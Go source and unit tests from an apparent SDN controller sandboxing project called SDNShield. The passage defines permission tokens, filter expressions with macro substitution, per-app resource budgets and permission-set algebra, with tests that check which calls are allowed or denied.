	TokenReadFlowTable Token = iota + 1
	TokenInsertFlow
	TokenModifyFlow
	TokenDeleteFlow
	TokenFlowEvent

	// Topology resource.
	TokenVisibleTopology
	TokenModifyTopology
	TokenTopologyEvent

	// Statistics and errors.
	TokenReadStatistics
	TokenErrorEvent

	// Packet-in / packet-out.
	TokenReadPayload
	TokenSendPktOut
	TokenPktInEvent

	// Host system resource.
	TokenHostNetwork
	TokenFileSystem
	TokenProcessRuntime

	tokenSentinel // keep last
)

// NumTokens is the number of distinct permission tokens.
const NumTokens = int(tokenSentinel) - 1

var tokenNames = map[Token]string{
	TokenReadFlowTable:   "read_flow_table",
	TokenInsertFlow:      "insert_flow",
	TokenModifyFlow:      "modify_flow",
	TokenDeleteFlow:      "delete_flow",
	TokenFlowEvent:       "flow_event",
	TokenVisibleTopology: "visible_topology",
	TokenModifyTopology:  "modify_topology",
	TokenTopologyEvent:   "topology_event",
	TokenReadStatistics:  "read_statistics",
	TokenErrorEvent:      "error_event",
	TokenReadPayload:     "read_payload",
	TokenSendPktOut:      "send_pkt_out",
	TokenPktInEvent:      "pkt_in_event",
	TokenHostNetwork:     "host_network",
	TokenFileSystem:      "file_system",
	TokenProcessRuntime:  "process_runtime",
}

// tokenAliases maps alternative spellings used in the paper's examples to
// canonical tokens (§V uses network_access and send_packet_out; the
// monitoring template uses read_topology).
var tokenAliases = map[string]Token{
	"network_access":  TokenHostNetwork,
	"send_packet_out": TokenSendPktOut,
	"read_topology":   TokenVisibleTopology,
	"packet_in_event": TokenPktInEvent,
	"modify_rule":     TokenModifyFlow,
}

// String returns the canonical permission-language spelling of the token.
func (t Token) String() string {
	if s, ok := tokenNames[t]; ok {
		return s
	}
	return fmt.Sprintf("token(%d)", uint8(t))
}

// Valid reports whether t names a defined token.
func (t Token) Valid() bool {
	_, ok := tokenNames[t]
	return ok
}

// ParseToken resolves a token name, accepting the paper's alias spellings.
func ParseToken(name string) (Token, bool) {
	name = strings.ToLower(strings.TrimSpace(name))
	for t, s := range tokenNames {
		if s == name {
			return t, true
		}
	}
	if t, ok := tokenAliases[name]; ok {
		return t, true
	}
	return 0, false
}

// AllTokens returns every defined token in declaration order.
func AllTokens() []Token {
	out := make([]Token, 0, NumTokens)
	for t := TokenReadFlowTable; t < tokenSentinel; t++ {
		out = append(out, t)
	}
	return out
}

// ResourceClass groups tokens by the SDN resource they govern, mirroring
// the left column of Table II.
type ResourceClass uint8

// Resource classes.
const (
	ResourceFlowTable ResourceClass = iota + 1
	ResourceTopology
	ResourceStatistics
	ResourcePacket
	ResourceHostSystem
)

// String names the resource class.
func (c ResourceClass) String() string {
	switch c {
	case ResourceFlowTable:
		return "flow-table"
	case ResourceTopology:
		return "topology"
	case ResourceStatistics:
		return "statistics"
	case ResourcePacket:
		return "packet"
	case ResourceHostSystem:
		return "host-system"
	default:
		return fmt.Sprintf("resource(%d)", uint8(c))
	}
}

// Resource returns the class of SDN resource the token governs.
func (t Token) Resource() ResourceClass {
	switch t {
	case TokenReadFlowTable, TokenInsertFlow, TokenModifyFlow, TokenDeleteFlow, TokenFlowEvent:
		return ResourceFlowTable
	case TokenVisibleTopology, TokenModifyTopology, TokenTopologyEvent:
		return ResourceTopology
	case TokenReadStatistics, TokenErrorEvent:
		return ResourceStatistics
	case TokenReadPayload, TokenSendPktOut, TokenPktInEvent:
		return ResourcePacket
	case TokenHostNetwork, TokenFileSystem, TokenProcessRuntime:
		return ResourceHostSystem
	default:
		return 0
	}
}

// ActionKind distinguishes the app action dimension of the token matrix:
// read, write or event notification (§IV-A).
type ActionKind uint8

// Action kinds.
const (
	ActionRead ActionKind = iota + 1
	ActionWrite
	ActionEvent
)

// String names the action kind.
func (k ActionKind) String() string {
	switch k {
	case ActionRead:
		return "read"
	case ActionWrite:
		return "write"
	case ActionEvent:
		return "event"
	default:
		return fmt.Sprintf("action(%d)", uint8(k))
	}
}

// Kind returns whether the token is a read, write or event privilege.
func (t Token) Kind() ActionKind {
	switch t {
	case TokenReadFlowTable, TokenVisibleTopology, TokenReadStatistics, TokenReadPayload:
		return ActionRead
	case TokenInsertFlow, TokenModifyFlow, TokenDeleteFlow, TokenModifyTopology,
		TokenSendPktOut, TokenHostNetwork, TokenFileSystem, TokenProcessRuntime:
		return ActionWrite
	case TokenFlowEvent, TokenTopologyEvent, TokenErrorEvent, TokenPktInEvent:
		return ActionEvent
	default:
		return 0
	}
}
