package core

import (
	"strings"
	"testing"

	"sdnshield/internal/of"
)

func monitorTemplate() *Set {
	// §V-A: monitoring apps may read topology, port-level statistics, and
	// talk to collectors in 192.168.0.0/16.
	return NewSetOf(
		Permission{Token: TokenVisibleTopology},
		Permission{Token: TokenReadStatistics, Filter: NewLeaf(NewStatsFilter(of.StatsPort))},
		Permission{Token: TokenHostNetwork, Filter: NewLeaf(ipDstFilter(192, 168, 0, 0, 16))},
	)
}

func TestSetGrantAndAllows(t *testing.T) {
	s := monitorTemplate()
	if s.Len() != 3 {
		t.Fatalf("Len = %d", s.Len())
	}
	okCall := &Call{App: "m", Token: TokenReadStatistics, StatsLevel: of.StatsPort}
	fineCall := &Call{App: "m", Token: TokenReadStatistics, StatsLevel: of.StatsFlow}
	noPerm := &Call{App: "m", Token: TokenInsertFlow, Match: of.NewMatch(), HasFlowOwner: true}

	if !s.Allows(okCall) {
		t.Error("port stats should be allowed")
	}
	if s.Allows(fineCall) {
		t.Error("flow stats must be denied")
	}
	if s.Allows(noPerm) {
		t.Error("missing token must deny")
	}
	connect := &Call{App: "m", Token: TokenHostNetwork,
		HostIP: of.IPv4FromOctets(192, 168, 3, 3), HasHostIP: true}
	if !s.Allows(connect) {
		t.Error("collector range connect allowed")
	}
	connect.HostIP = of.IPv4FromOctets(8, 8, 8, 8)
	if s.Allows(connect) {
		t.Error("outside collector range must deny")
	}
}

func TestSetGrantWidens(t *testing.T) {
	s := NewSet()
	s.Grant(TokenReadFlowTable, NewLeaf(NewOwnerFilter(true)))
	s.Grant(TokenReadFlowTable, NewLeaf(ipDstFilter(10, 13, 0, 0, 16)))

	foreignInSubnet := &Call{App: "a", Token: TokenReadFlowTable,
		Match:     of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 13, 1, 1))),
		FlowOwner: "other", HasFlowOwner: true}
	if !s.Allows(foreignInSubnet) {
		t.Error("second grant must widen via OR")
	}
	// Granting unconditionally absorbs the filters.
	s.Grant(TokenReadFlowTable, nil)
	if f, ok := s.FilterFor(TokenReadFlowTable); !ok || f != nil {
		t.Error("nil grant should make the token unconditional")
	}
	if s.Len() != 1 {
		t.Error("re-granting must not duplicate tokens")
	}
}

func TestSetRestrictRevoke(t *testing.T) {
	s := monitorTemplate()
	s.Restrict(TokenHostNetwork, NewLeaf(NewPredFilter(of.FieldTPDst, 443, of.FullMask(of.FieldTPDst))))
	call := &Call{App: "m", Token: TokenHostNetwork,
		HostIP: of.IPv4FromOctets(192, 168, 3, 3), HostPort: 80, HasHostIP: true}
	if s.Allows(call) {
		t.Error("restricted port must deny 80")
	}
	call.HostPort = 443
	if !s.Allows(call) {
		t.Error("443 should pass")
	}
	// Restricting an unconditional grant installs the filter.
	s.Restrict(TokenVisibleTopology, NewLeaf(NewPhysTopoFilter([]of.DPID{1}))) // unconditional before
	topoCall := &Call{App: "m", Token: TokenVisibleTopology, Switches: []of.DPID{2}}
	if s.Allows(topoCall) {
		t.Error("restriction on unconditional grant must bite")
	}
	// Restricting an absent token is a no-op.
	s.Restrict(TokenInsertFlow, NewLeaf(NewOwnerFilter(true)))
	if s.Has(TokenInsertFlow) {
		t.Error("restrict must not grant")
	}

	s.Revoke(TokenHostNetwork)
	if s.Has(TokenHostNetwork) || s.Len() != 2 {
		t.Error("revoke failed")
	}
	s.Revoke(TokenHostNetwork) // idempotent
}

func TestSetMeet(t *testing.T) {
	requested := NewSetOf(
		Permission{Token: TokenVisibleTopology},
		Permission{Token: TokenReadStatistics}, // unconditioned: wants flow level too
		Permission{Token: TokenHostNetwork},    // wants everywhere
		Permission{Token: TokenInsertFlow},     // not in template at all
	)
	bounded := requested.Meet(monitorTemplate())

	if bounded.Has(TokenInsertFlow) {
		t.Error("meet must drop tokens absent from the boundary")
	}
	statsCall := &Call{App: "m", Token: TokenReadStatistics, StatsLevel: of.StatsFlow}
	if bounded.Allows(statsCall) {
		t.Error("meet must narrow stats to port level")
	}
	statsCall.StatsLevel = of.StatsPort
	if !bounded.Allows(statsCall) {
		t.Error("port stats survive the meet")
	}
	// Meet result must be included in both operands.
	if inc, err := monitorTemplate().Includes(bounded); err != nil || !inc {
		t.Errorf("template must include meet: (%v,%v)", inc, err)
	}
	if inc, err := requested.Includes(bounded); err != nil || !inc {
		t.Errorf("request must include meet: (%v,%v)", inc, err)
	}
}

func TestSetJoin(t *testing.T) {
	a := NewSetOf(
		Permission{Token: TokenReadStatistics, Filter: NewLeaf(NewStatsFilter(of.StatsPort))},
		Permission{Token: TokenVisibleTopology},
	)
	b := NewSetOf(
		Permission{Token: TokenReadStatistics, Filter: NewLeaf(NewStatsFilter(of.StatsFlow))},
		Permission{Token: TokenPktInEvent},
	)
	j := a.Join(b)
	if !j.Has(TokenPktInEvent) || !j.Has(TokenVisibleTopology) {
		t.Error("join must union tokens")
	}
	if !j.Allows(&Call{App: "x", Token: TokenReadStatistics, StatsLevel: of.StatsFlow}) {
		t.Error("join widens stats to flow level")
	}
	// Join includes both operands.
	for _, op := range []*Set{a, b} {
		if inc, err := j.Includes(op); err != nil || !inc {
			t.Errorf("join must include operand: (%v,%v)", inc, err)
		}
	}
}

func TestSetIncludesScenario(t *testing.T) {
	// ASSERT monitorAppPerm <= templatePerm from §V-A.
	template := monitorTemplate()

	conforming := NewSetOf(
		Permission{Token: TokenReadStatistics, Filter: NewLeaf(NewStatsFilter(of.StatsSwitch))},
		Permission{Token: TokenHostNetwork, Filter: NewLeaf(ipDstFilter(192, 168, 7, 0, 24))},
	)
	if inc, err := template.Includes(conforming); err != nil || !inc {
		t.Errorf("conforming app must satisfy boundary: (%v,%v)", inc, err)
	}

	violating := NewSetOf(
		Permission{Token: TokenReadStatistics, Filter: NewLeaf(NewStatsFilter(of.StatsFlow))},
	)
	if inc, _ := template.Includes(violating); inc {
		t.Error("flow-level stats exceed the boundary")
	}

	extraToken := NewSetOf(Permission{Token: TokenInsertFlow})
	if inc, _ := template.Includes(extraToken); inc {
		t.Error("token outside boundary must fail")
	}
}

func TestSetEqualCloneString(t *testing.T) {
	s := monitorTemplate()
	c := s.Clone()
	if eq, err := s.Equal(c); err != nil || !eq {
		t.Errorf("clone must be equal: (%v,%v)", eq, err)
	}
	c.Revoke(TokenHostNetwork)
	if eq, _ := s.Equal(c); eq {
		t.Error("modified clone differs")
	}
	if s.Has(TokenHostNetwork) != true {
		t.Error("clone mutation leaked into original")
	}

	str := s.String()
	for _, want := range []string{
		"PERM visible_topology",
		"PERM read_statistics LIMITING PORT_LEVEL",
		"PERM host_network LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0",
	} {
		if !strings.Contains(str, want) {
			t.Errorf("String() missing %q:\n%s", want, str)
		}
	}
}

func TestPermissionString(t *testing.T) {
	p := Permission{Token: TokenInsertFlow,
		Filter: &And{L: NewLeaf(NewActionFilter(ActionClassForward)), R: NewLeaf(NewOwnerFilter(true))}}
	want := "PERM insert_flow LIMITING (ACTION FORWARD AND OWN_FLOWS)"
	if got := p.String(); got != want {
		t.Errorf("String = %q, want %q", got, want)
	}
	if got := (Permission{Token: TokenFlowEvent}).String(); got != "PERM flow_event" {
		t.Errorf("String = %q", got)
	}
}

func TestSetSortedRenderingDeterministic(t *testing.T) {
	// Two sets with the same grants in opposite insertion order must
	// agree on every sorted accessor.
	a := NewSet()
	a.Grant(TokenReadStatistics, nil)
	a.Grant(TokenInsertFlow, NewLeaf(NewOwnerFilter(true)))
	a.Grant(TokenVisibleTopology, nil)
	b := NewSet()
	b.Grant(TokenVisibleTopology, nil)
	b.Grant(TokenInsertFlow, NewLeaf(NewOwnerFilter(true)))
	b.Grant(TokenReadStatistics, nil)

	at, bt := a.SortedTokens(), b.SortedTokens()
	if len(at) != len(bt) {
		t.Fatalf("token counts differ: %v vs %v", at, bt)
	}
	for i := range at {
		if at[i] != bt[i] {
			t.Fatalf("sorted tokens differ: %v vs %v", at, bt)
		}
		if i > 0 && at[i-1] >= at[i] {
			t.Fatalf("SortedTokens not ascending: %v", at)
		}
	}
	if a.SortedString() != b.SortedString() {
		t.Fatalf("SortedString depends on grant order:\n%s\nvs\n%s",
			a.SortedString(), b.SortedString())
	}
	ap := a.SortedPermissions()
	for i := range ap {
		if ap[i].Token != at[i] {
			t.Fatalf("SortedPermissions order diverges from SortedTokens")
		}
	}
	// The grant-ordered accessors are untouched: insertion order stays
	// observable for callers that need history.
	if got := a.Tokens()[0]; got != TokenReadStatistics {
		t.Errorf("Tokens()[0] = %v, want insertion order preserved", got)
	}
}
