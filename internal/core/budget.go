package core

import (
	"fmt"
	"strings"
)

// Budget is a per-app soft resource quota declared in a release manifest
// (BUDGET statements). It bounds what a sandboxed app may consume, not
// what it may do — the complement of the permission set. Zero fields are
// unlimited; a zero Budget imposes no quotas at all. Budgets are
// enforced by the isolation layer's resource accounting as soft quotas:
// a breach emits an audit event (and can, configurably, escalate to
// quarantine) rather than failing the call.
type Budget struct {
	// CPUMillisPerSec caps mediated-call CPU time, in milliseconds of
	// execution per second of wall clock.
	CPUMillisPerSec int64 `json:"cpu_ms_per_sec,omitempty"`
	// AllocKBPerSec caps the app's estimated heap allocation rate, in
	// KiB per second.
	AllocKBPerSec int64 `json:"alloc_kb_per_sec,omitempty"`
	// MaxGoroutines caps the app's live goroutine count (its event
	// handler plus any goroutines it spawns through the sandbox).
	MaxGoroutines int64 `json:"max_goroutines,omitempty"`
	// MaxDropsPerSec caps the rate of events dropped from the app's
	// queue — sustained drops mean the app cannot keep up with its
	// event stream.
	MaxDropsPerSec int64 `json:"max_drops_per_sec,omitempty"`
}

// IsZero reports whether the budget imposes no quota at all.
func (b Budget) IsZero() bool { return b == Budget{} }

// budgetKeys maps manifest BUDGET keys to Budget fields, in canonical
// rendering order. The keys are part of the permission-language surface
// and must stay stable.
var budgetKeys = []struct {
	Key string
	Get func(*Budget) *int64
}{
	{"CPU_MS_PER_SEC", func(b *Budget) *int64 { return &b.CPUMillisPerSec }},
	{"ALLOC_KB_PER_SEC", func(b *Budget) *int64 { return &b.AllocKBPerSec }},
	{"MAX_GOROUTINES", func(b *Budget) *int64 { return &b.MaxGoroutines }},
	{"MAX_DROPS_PER_SEC", func(b *Budget) *int64 { return &b.MaxDropsPerSec }},
}

// SetBudgetKey sets one budget field by its manifest key, returning
// false for an unknown key. Keys are case-insensitive.
func (b *Budget) SetBudgetKey(key string, v int64) bool {
	for _, bk := range budgetKeys {
		if strings.EqualFold(key, bk.Key) {
			*bk.Get(b) = v
			return true
		}
	}
	return false
}

// BudgetKeys lists the valid manifest BUDGET keys in canonical order.
func BudgetKeys() []string {
	out := make([]string, len(budgetKeys))
	for i, bk := range budgetKeys {
		out[i] = bk.Key
	}
	return out
}

// String renders the budget as manifest BUDGET statements, one per
// non-zero field, in canonical key order ("" for a zero budget).
func (b Budget) String() string {
	var sb strings.Builder
	for _, bk := range budgetKeys {
		v := *bk.Get(&b)
		if v == 0 {
			continue
		}
		if sb.Len() > 0 {
			sb.WriteString("\n")
		}
		fmt.Fprintf(&sb, "BUDGET %s %d", bk.Key, v)
	}
	return sb.String()
}
