// Package core implements SDNShield's permission model — the paper's
// primary contribution (§IV–§V). It defines:
//
//   - permission tokens (Table II): the coarse-grained privileges dividing
//     app behaviour along SDN resources × actions, plus host-system tokens;
//   - singleton permission filters: fine-grained predicates over the
//     runtime attributes of an API call (flow predicate, actions,
//     ownership, priority, table size, packet-out provenance, topology,
//     callbacks, statistics granularity);
//   - filter expressions: AND/OR/NOT compositions of singleton filters;
//   - the comparison algebra (Algorithm 1): a sound, conservative
//     inclusion test on filter expressions via CNF/DNF normalization and
//     per-dimension singleton comparison;
//   - permission sets with the MEET/JOIN/inclusion operations the
//     reconciliation engine (§V-B) is built on.
//
// The package is purely algebraic: it never touches the controller. The
// permission engine (internal/permengine) feeds it Call values describing
// mediated API invocations; the reconciliation engine
// (internal/reconcile) manipulates its permission sets.
package core
