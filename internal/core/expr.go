package core

import "fmt"

// Expr is a filter expression: the AND/OR/NOT composition of singleton
// filters from the permission-language grammar (Appendix A). A nil Expr
// denotes the unrestricted permission (every call passes).
type Expr interface {
	// Eval labels a call. Filters whose attribute dimension is absent from
	// the call pass it through (vacuous truth), including under negation.
	Eval(call *Call) bool
	// String renders the expression in permission-language syntax.
	String() string

	isExpr()
}

// Leaf wraps one singleton filter.
type Leaf struct {
	F Filter
}

// NewLeaf wraps a filter into an expression.
func NewLeaf(f Filter) *Leaf { return &Leaf{F: f} }

func (*Leaf) isExpr() {}

// Eval implements Expr.
func (l *Leaf) Eval(call *Call) bool { return evalExpr(l, call, false) }

// String implements Expr.
func (l *Leaf) String() string { return l.F.String() }

// And is the conjunction of two filter expressions.
type And struct {
	L, R Expr
}

func (*And) isExpr() {}

// Eval implements Expr.
func (a *And) Eval(call *Call) bool { return evalExpr(a, call, false) }

// String implements Expr.
func (a *And) String() string {
	return fmt.Sprintf("(%s AND %s)", a.L.String(), a.R.String())
}

// Or is the disjunction of two filter expressions.
type Or struct {
	L, R Expr
}

func (*Or) isExpr() {}

// Eval implements Expr.
func (o *Or) Eval(call *Call) bool { return evalExpr(o, call, false) }

// String implements Expr.
func (o *Or) String() string {
	return fmt.Sprintf("(%s OR %s)", o.L.String(), o.R.String())
}

// Not is the negation of a filter expression.
type Not struct {
	X Expr
}

func (*Not) isExpr() {}

// Eval implements Expr.
func (n *Not) Eval(call *Call) bool { return evalExpr(n, call, false) }

// String implements Expr.
func (n *Not) String() string { return fmt.Sprintf("NOT %s", n.X.String()) }

// MacroRef is an unresolved permission-filter stub (§V-A "permission
// customization"): a named placeholder like AdminRange the administrator
// binds via a LET statement before deployment. A manifest containing
// unresolved macros cannot be enforced: MacroRef evaluates to false
// (deny) and normalization rejects it, so reconciliation must substitute
// every stub first.
type MacroRef struct {
	Name string
}

func (*MacroRef) isExpr() {}

// Eval implements Expr; an unresolved stub denies.
func (m *MacroRef) Eval(*Call) bool { return false }

// String implements Expr.
func (m *MacroRef) String() string { return m.Name }

// ContainsMacro reports whether the expression still carries unresolved
// macro stubs.
func ContainsMacro(e Expr) bool {
	switch v := e.(type) {
	case *MacroRef:
		return true
	case *Not:
		return ContainsMacro(v.X)
	case *And:
		return ContainsMacro(v.L) || ContainsMacro(v.R)
	case *Or:
		return ContainsMacro(v.L) || ContainsMacro(v.R)
	default:
		return false
	}
}

// SubstituteMacros replaces every macro stub using the bindings map; the
// second result lists stubs with no binding (left in place).
func SubstituteMacros(e Expr, bindings map[string]Expr) (Expr, []string) {
	switch v := e.(type) {
	case nil:
		return nil, nil
	case *MacroRef:
		if repl, ok := bindings[v.Name]; ok {
			return repl, nil
		}
		return v, []string{v.Name}
	case *Leaf:
		return v, nil
	case *Not:
		x, missing := SubstituteMacros(v.X, bindings)
		return &Not{X: x}, missing
	case *And:
		l, m1 := SubstituteMacros(v.L, bindings)
		r, m2 := SubstituteMacros(v.R, bindings)
		return &And{L: l, R: r}, append(m1, m2...)
	case *Or:
		l, m1 := SubstituteMacros(v.L, bindings)
		r, m2 := SubstituteMacros(v.R, bindings)
		return &Or{L: l, R: r}, append(m1, m2...)
	default:
		return e, nil
	}
}

// evalExpr evaluates with negation pushed to the leaves, so that a filter
// inapplicable to the call stays vacuously true whether or not it appears
// under a NOT.
func evalExpr(e Expr, call *Call, neg bool) bool {
	switch v := e.(type) {
	case *Leaf:
		matched, applicable := v.F.Test(call)
		if !applicable {
			return true
		}
		if neg {
			return !matched
		}
		return matched
	case *Not:
		return evalExpr(v.X, call, !neg)
	case *And:
		if neg { // ¬(L ∧ R) = ¬L ∨ ¬R
			return evalExpr(v.L, call, true) || evalExpr(v.R, call, true)
		}
		return evalExpr(v.L, call, false) && evalExpr(v.R, call, false)
	case *Or:
		if neg { // ¬(L ∨ R) = ¬L ∧ ¬R
			return evalExpr(v.L, call, true) && evalExpr(v.R, call, true)
		}
		return evalExpr(v.L, call, false) || evalExpr(v.R, call, false)
	default:
		return false
	}
}

// AndAll folds a slice of expressions into a conjunction. nil elements
// (unrestricted) are dropped; an empty result is nil (unrestricted).
func AndAll(exprs ...Expr) Expr {
	var acc Expr
	for _, e := range exprs {
		if e == nil {
			continue
		}
		if acc == nil {
			acc = e
		} else {
			acc = &And{L: acc, R: e}
		}
	}
	return acc
}

// OrAll folds a slice of expressions into a disjunction. A nil element
// (unrestricted) absorbs the whole disjunction into nil.
func OrAll(exprs ...Expr) Expr {
	if len(exprs) == 0 {
		return nil
	}
	var acc Expr
	for i, e := range exprs {
		if e == nil {
			return nil
		}
		if i == 0 {
			acc = e
		} else {
			acc = &Or{L: acc, R: e}
		}
	}
	return acc
}

// ExprEqual reports structural equality of two expressions (nil == nil).
func ExprEqual(a, b Expr) bool {
	switch va := a.(type) {
	case nil:
		return b == nil
	case *Leaf:
		vb, ok := b.(*Leaf)
		return ok && va.F.Equal(vb.F)
	case *MacroRef:
		vb, ok := b.(*MacroRef)
		return ok && va.Name == vb.Name
	case *Not:
		vb, ok := b.(*Not)
		return ok && ExprEqual(va.X, vb.X)
	case *And:
		vb, ok := b.(*And)
		return ok && ExprEqual(va.L, vb.L) && ExprEqual(va.R, vb.R)
	case *Or:
		vb, ok := b.(*Or)
		return ok && ExprEqual(va.L, vb.L) && ExprEqual(va.R, vb.R)
	default:
		return false
	}
}

// ExprString renders an expression, mapping nil to "*" (unrestricted).
func ExprString(e Expr) string {
	if e == nil {
		return "*"
	}
	return e.String()
}
