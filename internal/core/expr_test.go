package core

import (
	"testing"

	"sdnshield/internal/of"
)

func ipDstFilter(a, b, c, d byte, bits int) *PredFilter {
	return NewPredFilter(of.FieldIPDst, uint64(of.IPv4FromOctets(a, b, c, d)), uint64(of.PrefixMask(bits)))
}

func ipSrcFilter(a, b, c, d byte, bits int) *PredFilter {
	return NewPredFilter(of.FieldIPSrc, uint64(of.IPv4FromOctets(a, b, c, d)), uint64(of.PrefixMask(bits)))
}

func TestExprEvalPaperComposition(t *testing.T) {
	// §IV-B: read_flow_table limited to own flows OR flows touching
	// 10.13.0.0/16 in either direction.
	expr := &Or{
		L: &Or{
			L: NewLeaf(NewOwnerFilter(true)),
			R: NewLeaf(ipSrcFilter(10, 13, 0, 0, 16)),
		},
		R: NewLeaf(ipDstFilter(10, 13, 0, 0, 16)),
	}

	call := func(owner string, src, dst of.IPv4) *Call {
		m := of.NewMatch().Set(of.FieldIPSrc, uint64(src)).Set(of.FieldIPDst, uint64(dst))
		return &Call{App: "monitor", Token: TokenReadFlowTable,
			Match: m, FlowOwner: owner, HasFlowOwner: true}
	}

	tests := []struct {
		name string
		call *Call
		want bool
	}{
		{"own flow elsewhere", call("monitor", of.IPv4FromOctets(1, 1, 1, 1), of.IPv4FromOctets(2, 2, 2, 2)), true},
		{"foreign flow in subnet via dst", call("router", of.IPv4FromOctets(1, 1, 1, 1), of.IPv4FromOctets(10, 13, 9, 9)), true},
		{"foreign flow in subnet via src", call("router", of.IPv4FromOctets(10, 13, 1, 1), of.IPv4FromOctets(8, 8, 8, 8)), true},
		{"foreign flow outside subnet", call("router", of.IPv4FromOctets(1, 1, 1, 1), of.IPv4FromOctets(8, 8, 8, 8)), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := expr.Eval(tt.call); got != tt.want {
				t.Errorf("Eval = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestExprEvalNegationAndVacuity(t *testing.T) {
	pred := NewLeaf(ipDstFilter(10, 0, 0, 0, 8))
	notPred := &Not{X: pred}

	inside := &Call{Token: TokenInsertFlow,
		Match: of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 1, 1, 1)))}
	outside := &Call{Token: TokenInsertFlow,
		Match: of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(9, 1, 1, 1)))}
	noAttr := &Call{Token: TokenReadStatistics, StatsLevel: of.StatsPort}

	if pred.Eval(inside) != true || pred.Eval(outside) != false {
		t.Error("leaf evaluation wrong")
	}
	if notPred.Eval(inside) != false || notPred.Eval(outside) != true {
		t.Error("negation wrong")
	}
	// Filters not applicable to the call pass it through, with or without
	// negation.
	if !pred.Eval(noAttr) || !notPred.Eval(noAttr) {
		t.Error("inapplicable filters must be vacuously true under any sign")
	}
	// Double negation.
	if (&Not{X: notPred}).Eval(outside) != false {
		t.Error("double negation broken")
	}
	// De Morgan shapes evaluated via the neg-pushdown path.
	a, b := NewLeaf(NewOwnerFilter(true)), pred
	notAnd := &Not{X: &And{L: a, R: b}}
	wantCall := &Call{Token: TokenInsertFlow, FlowOwner: "other", HasFlowOwner: true,
		Match: of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 1, 1, 1)))}
	// a false (foreign flow), b true -> and false -> not true.
	wantCall.App = "me"
	if !notAnd.Eval(wantCall) {
		t.Error("¬(a∧b) should hold when a is false")
	}
	notOr := &Not{X: &Or{L: a, R: b}}
	if notOr.Eval(wantCall) {
		t.Error("¬(a∨b) should fail when b holds")
	}
}

func TestAndAllOrAll(t *testing.T) {
	f1 := NewLeaf(NewOwnerFilter(true))
	f2 := NewLeaf(NewMaxPriorityFilter(10))

	if AndAll() != nil || AndAll(nil, nil) != nil {
		t.Error("empty conjunction is unrestricted")
	}
	if got := AndAll(nil, f1, nil); got != f1 {
		t.Error("nil operands must be dropped from conjunction")
	}
	if _, ok := AndAll(f1, f2).(*And); !ok {
		t.Error("two operands make an And")
	}
	if OrAll() != nil {
		t.Error("empty disjunction is unrestricted")
	}
	if OrAll(f1, nil) != nil {
		t.Error("nil absorbs disjunction")
	}
	if _, ok := OrAll(f1, f2).(*Or); !ok {
		t.Error("two operands make an Or")
	}
}

func TestExprEqualAndString(t *testing.T) {
	f1 := NewLeaf(NewOwnerFilter(true))
	f2 := NewLeaf(NewMaxPriorityFilter(10))
	a := &And{L: f1, R: f2}
	b := &And{L: NewLeaf(NewOwnerFilter(true)), R: NewLeaf(NewMaxPriorityFilter(10))}

	if !ExprEqual(a, b) {
		t.Error("structurally equal expressions")
	}
	if ExprEqual(a, &And{L: f2, R: f1}) {
		t.Error("ExprEqual is structural, operand order matters")
	}
	if !ExprEqual(nil, nil) || ExprEqual(a, nil) || ExprEqual(nil, a) {
		t.Error("nil handling broken")
	}
	if got := a.String(); got != "(OWN_FLOWS AND MAX_PRIORITY 10)" {
		t.Errorf("String = %q", got)
	}
	if got := (&Not{X: f1}).String(); got != "NOT OWN_FLOWS" {
		t.Errorf("String = %q", got)
	}
	if ExprString(nil) != "*" {
		t.Error("nil renders as *")
	}
}

func TestToCNFToDNFShapes(t *testing.T) {
	x := NewLeaf(NewOwnerFilter(true))
	y := NewLeaf(NewMaxPriorityFilter(10))
	z := NewLeaf(NewTableSizeFilter(5))

	// (x ∧ y) ∨ z : CNF = (x∨z) ∧ (y∨z); DNF = (x∧y) ∨ z.
	e := &Or{L: &And{L: x, R: y}, R: z}
	cnf, err := ToCNF(e)
	if err != nil {
		t.Fatal(err)
	}
	if len(cnf) != 2 || len(cnf[0]) != 2 || len(cnf[1]) != 2 {
		t.Errorf("CNF shape = %v", cnf)
	}
	dnf, err := ToDNF(e)
	if err != nil {
		t.Fatal(err)
	}
	if len(dnf) != 2 || len(dnf[0]) != 2 || len(dnf[1]) != 1 {
		t.Errorf("DNF shape = %v", dnf)
	}

	// Negation pushes to leaves: ¬(x ∨ y) = ¬x ∧ ¬y.
	n := &Not{X: &Or{L: x, R: y}}
	cnf, err = ToCNF(n)
	if err != nil {
		t.Fatal(err)
	}
	if len(cnf) != 2 || !cnf[0][0].Neg || !cnf[1][0].Neg {
		t.Errorf("negated CNF = %v", cnf)
	}

	// nil expression conventions.
	if c, err := ToCNF(nil); err != nil || len(c) != 0 {
		t.Errorf("ToCNF(nil) = %v, %v", c, err)
	}
	if d, err := ToDNF(nil); err != nil || len(d) != 1 || len(d[0]) != 0 {
		t.Errorf("ToDNF(nil) = %v, %v", d, err)
	}
}

func TestNormalizationBudget(t *testing.T) {
	// Alternate AND of ORs deep enough to overflow the clause budget in
	// DNF.
	leafPool := []Expr{
		NewLeaf(NewOwnerFilter(true)),
		NewLeaf(NewMaxPriorityFilter(9)),
	}
	e := leafPool[0]
	for i := 0; i < 40; i++ {
		e = &And{L: e, R: &Or{L: leafPool[i%2], R: leafPool[(i+1)%2]}}
	}
	if _, err := ToDNF(e); err == nil {
		t.Skip("expression did not overflow budget; widen the generator")
	}
	// The comparison must degrade conservatively, not panic.
	if inc, err := Includes(e, e); err == nil && inc {
		t.Log("includes still decided within budget")
	}
}
