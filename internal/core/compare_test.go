package core

import (
	"math/rand"
	"testing"

	"sdnshield/internal/of"
)

func mustIncludes(t *testing.T, a, b Expr) bool {
	t.Helper()
	inc, err := Includes(a, b)
	if err != nil {
		t.Fatalf("Includes(%s, %s): %v", ExprString(a), ExprString(b), err)
	}
	return inc
}

func TestIncludesPaperSubnetExample(t *testing.T) {
	// §V-B: an insert_flow permission on a 192.168.0.0/16 IP dst filter
	// includes the same permission on a 192.168.1.0/24 IP dst filter.
	wide := NewLeaf(ipDstFilter(192, 168, 0, 0, 16))
	narrow := NewLeaf(ipDstFilter(192, 168, 1, 0, 24))
	if !mustIncludes(t, wide, narrow) {
		t.Error("/16 must include /24")
	}
	if mustIncludes(t, narrow, wide) {
		t.Error("/24 must not include /16")
	}
}

